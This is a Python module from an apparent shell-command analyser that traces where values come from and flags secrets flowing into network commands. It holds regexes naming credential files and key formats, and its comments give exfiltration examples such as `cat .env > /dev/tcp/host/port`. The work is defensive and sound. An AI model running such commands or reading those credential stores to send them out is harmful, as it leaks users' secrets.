"""Data flow inside one text: where a value came from, and secrets that reach the network.

Follows pipes (`Invocation.stdin.producers`), substitutions (`Field.origins`) and files written earlier in the same text (`Scene.sources`).
"""

from __future__ import annotations

import posixpath
import re
from functools import cache

from ..model.effect import Certainty, Effect, EffectKind, Target, TargetKind
from ..shell.invocation import Field, Invocation, Known
from .call import Call, Scene, path_targets

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterable, Iterator

NETWORK = frozenset({EffectKind.NET_CONNECT, EffectKind.NET_REMOTE_EXEC, EffectKind.NET_UPLOAD, EffectKind.NET_LISTEN})
# The kinds through which data leaves; a listener may hand out what it is fed.
OUTWARD = NETWORK
# From worst to best, for a value with several sources.
WORST_FIRST = ("network", "file", "stdin", "read", "positional", "variable", "opaque", "generated")
# Programs that print where another program is.
FINDERS = frozenset(["which", "whence"])
# Readers that let no value of a secret through: counts, names, digests, tests.
BLUNT = frozenset("wc sha256sum sha512sum sha1sum md5sum cksum b2sum true false sum".split())


@cache
def _secret_names() -> re.Pattern[str]:
    return re.compile(
        r"(?:^|/)(?:[^/]*\.env(?:\.[^/]*)?|[^/]*credentials\.[^/]*|[^/]*secrets?\.[^/]*|[^/]*\.pem|[^/]*id_(?:rsa|dsa|ecdsa|ed25519)[^/]*)$"
        r"|/\.ssh(?:/(?!known_hosts|config)[^/]*)?$|/\.aws(?:/|$)|/\.gnupg(?:/|$)|/\.netrc$|/\.pgpass$|/\.kube/config$|/\.docker/config\.json$"
        r"|/\.config/(?:gh|gcloud)(?:/|$)|/\.npmrc$|/\.pypirc$|/\.git-credentials$|/\.vault-token$|^/proc/[^/]+/environ$|^/etc/shadow$|^/etc/gshadow$",
        re.IGNORECASE,
    )


def looks_secret(path: str) -> bool:
    """Whether a path bears a name that secrets bear. Used to follow data; which files are protected is the profile's to say."""
    name = posixpath.basename(path)
    if name.endswith(".pub") or name.lower().endswith((".env.example", ".env.sample", ".env.template")):
        return False
    return _secret_names().search(path) is not None


# Values that are surely secrets by their shape; the redactor of records knows many more.
_SECRET_VALUE = (
    r"AIza[\w-]{30,}|\b(?:AKIA|ASIA)[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{30,}|\bgithub_pat_\w{20,}|\bglpat-[\w-]{20,}|\bxox[abprs]-[\w-]{10,}"
    r"|\bsk-(?:ant-|proj-)?[\w-]{20,}|\b[sr]k_live_\w{16,}|-----BEGIN [A-Z ]*PRIVATE KEY-----|\bnpm_[A-Za-z0-9]{30,}|\bya29\.[\w-]{20,}"
)


def holds_secret(text: str) -> bool:
    """Whether a text that is written down holds a value with the shape of a secret."""
    return len(text) > 15 and re.search(_SECRET_VALUE, text) is not None


def looked_up(field: Field, scene: Scene) -> str:
    """The program that a word such as `$(which rm)` or `$(command -v git)` names, or ""."""
    for origin in field.origins:
        for index in origin.producers:
            words = [word.text for word in scene.invocations[index].words] if index < len(scene.invocations) else []
            if len(words) == 2 and words[0] in FINDERS and words[1]:
                return words[1]
            if len(words) == 3 and (words[0], words[1]) in (("command", "-v"), ("type", "-p"), ("type", "-P")) and words[2]:
                return words[2]
    return ""


def producers_of(invocation: Invocation) -> tuple[int, ...]:
    """Invocations whose output comes into this one by pipe, by word or by redirect."""
    found = list(invocation.stdin.producers)
    fields = [*invocation.words, *(field for _, field in invocation.assignments)]
    if invocation.stdin.field is not None:
        fields.append(invocation.stdin.field)
    for field in fields:
        for origin in field.origins:
            found += origin.producers
    return tuple(found)


def upstream(start: Iterable[int], scene: Scene) -> list[int]:
    """These invocations and all that feed them, each once."""
    found: list[int] = []
    todo = list(start)
    while todo:
        index = todo.pop()
        if index in found or not 0 <= index < len(scene.invocations):
            continue
        found.append(index)
        todo += producers_of(scene.invocations[index])
    return found


def source_of(producers: Iterable[int], scene: Scene) -> str:
    """What the output of these invocations is made of: network | file | variable | generated ...; the worst one."""
    seen = {"generated"}
    for index in upstream(producers, scene):
        for effect in scene.effects_of.get(index, ()):
            if effect.kind in NETWORK:
                seen.add("network")
            elif effect.kind in (EffectKind.FILE_READ, EffectKind.CODE_SCRIPT):
                seen.add(scene.sources.get(effect.target.text, "file"))
        for field in scene.invocations[index].words:
            seen.update(origin.kind for origin in field.origins if origin.kind in WORST_FIRST)
    return next(kind for kind in WORST_FIRST if kind in seen)


def source_of_field(field: Field, scene: Scene) -> str:
    """Where the unknown part of a word comes from, in the words of `source_of`."""
    seen = set()
    for origin in field.origins:
        if origin.producers:
            seen.add(source_of(origin.producers, scene))
        else:
            seen.add(origin.kind if origin.kind in WORST_FIRST else "generated")
    return next((kind for kind in WORST_FIRST if kind in seen), "variable")


def secrets_of(index: int, scene: Scene) -> Iterator[str]:
    """Secrets in the output of an invocation: the paths or stores it reads."""
    invocation = scene.invocations[index]
    name = invocation.words[0].text if invocation.words else ""
    if name in BLUNT:
        return
    for effect in scene.effects_of.get(index, ()):
        if effect.kind is EffectKind.SECRET_READ:
            yield effect.target.text or effect.get("store")
        elif effect.get("holds_secrets"):
            yield f"{effect.program} {effect.get('verb')}"
        elif effect.kind is EffectKind.FILE_READ and (
            looks_secret(effect.target.text) or (effect.get("recursive") and (scene.home + "/").startswith(effect.target.text.rstrip("/") + "/"))
        ):
            yield effect.target.text  # a home read through holds its keys


def uploads(index: int, invocation: Invocation, effects: list[Effect], scene: Scene) -> list[Effect]:
    """A `net.upload` with secret=1 for each secret that flows into a command that talks to the network."""
    outward = [effect for effect in effects if effect.kind in OUTWARD and not effect.get("secret")]
    if not outward:
        return []
    found = []
    first = outward[0]
    flowing = [secret for producer in upstream(producers_of(invocation), scene) for secret in secrets_of(producer, scene)]
    for secret in dict.fromkeys([*flowing, *_secret_origins(invocation)]):
        if secret:
            pairs = {**dict(first.attributes), "upload": "secret", "secret": "1", "path": secret}
            found.append(first.replace(kind=EffectKind.NET_UPLOAD, attributes=tuple(sorted(pairs.items()))))
    for effect in effects:
        # `cat .env > /dev/tcp/host/port`: the same command reads and sends.
        if effect.kind is EffectKind.FILE_READ and looks_secret(effect.target.text) and any(one.get("stream") for one in outward):
            pairs = {"upload": "secret", "secret": "1", "path": effect.target.text}
            found.append(outward[0].replace(kind=EffectKind.NET_UPLOAD, attributes=tuple(sorted(pairs.items()))))
    sent = next((effect for effect in outward if effect.get("sent")), None)
    if sent is not None and _reads_files(invocation, effects, scene):
        pairs = {**dict(sent.attributes), "upload": "file"}
        found.append(sent.replace(kind=EffectKind.NET_UPLOAD, attributes=tuple(sorted(pairs.items()))))
    return found


def _reads_files(invocation: Invocation, effects: list[Effect], scene: Scene) -> bool:
    """Whether the content of some file comes out of the command, or of what feeds it."""
    feeding = [effect for producer in upstream(producers_of(invocation), scene) for effect in scene.effects_of.get(producer, ())]
    return any(effect.kind is EffectKind.FILE_READ for effect in (*effects, *feeding))


def _secret_origins(invocation: Invocation) -> Iterator[str]:
    """Secret files whose content a word of the command holds (`k=$(cat .env); curl -d "$k" ..`)."""
    for field in (*invocation.words, *(value for _, value in invocation.assignments)):
        for origin in field.origins:
            if origin.kind == "file" and looks_secret("/" + origin.detail):
                yield from (
                    target.text for target, _ in path_targets(field.replace(known=Known.STATIC, values=(origin.detail,)), invocation.cwd)
                )


_SOURCES = (
    ".py .pyi .ts .tsx .mts .cts .js .jsx .mjs .cjs .go .rs .rb .java .kt .kts .cs .php .swift .c .h .cc .cpp .hpp .m .ex .exs .vue .svelte .scala .lua .dart "
    ".sh .md .rst .html .css .sql"
).split()


def is_source(name: str) -> bool:
    """Whether a file's ending says that it is part of a program: `src/secrets.py` and `tests/credentials.test.ts` are code about secrets."""
    return name.endswith(tuple(_SOURCES))


def named_secrets(call: Call, scene: Scene, *, sources: bool = True) -> Iterator[Effect]:
    """Secrets that a program is given by name (`tool .env`, `tool --file=.env`, `tool @.env`): it may read them. sources: those that are code too."""
    for field in call.argv:
        for value in field.values if field.known is not Known.DYNAMIC else ():
            for text in (value.partition("=")[2].lstrip("@<"), value.lstrip("@<")):
                if not text or text.startswith("-") or len(text) > 400 or not looks_secret("/" + text) or (is_source(text) and not sources):
                    continue
                for target, _ in path_targets(field.replace(values=(text,)), call.invocation.cwd):
                    yield call.effect(EffectKind.FILE_READ, target, certainty=Certainty.POSSIBLE)
                break


def object_target(field: Field, kind: TargetKind = TargetKind.OBJECT) -> Target:
    """A named thing that is no path: the word's value, or its literal prefix with the reason why the rest is not known."""
    text = field.text
    if text is not None:
        return Target(kind, text)
    return Target(kind, field.prefix if field.known is Known.DYNAMIC else "|".join(field.values), field.reason or "one of several values")
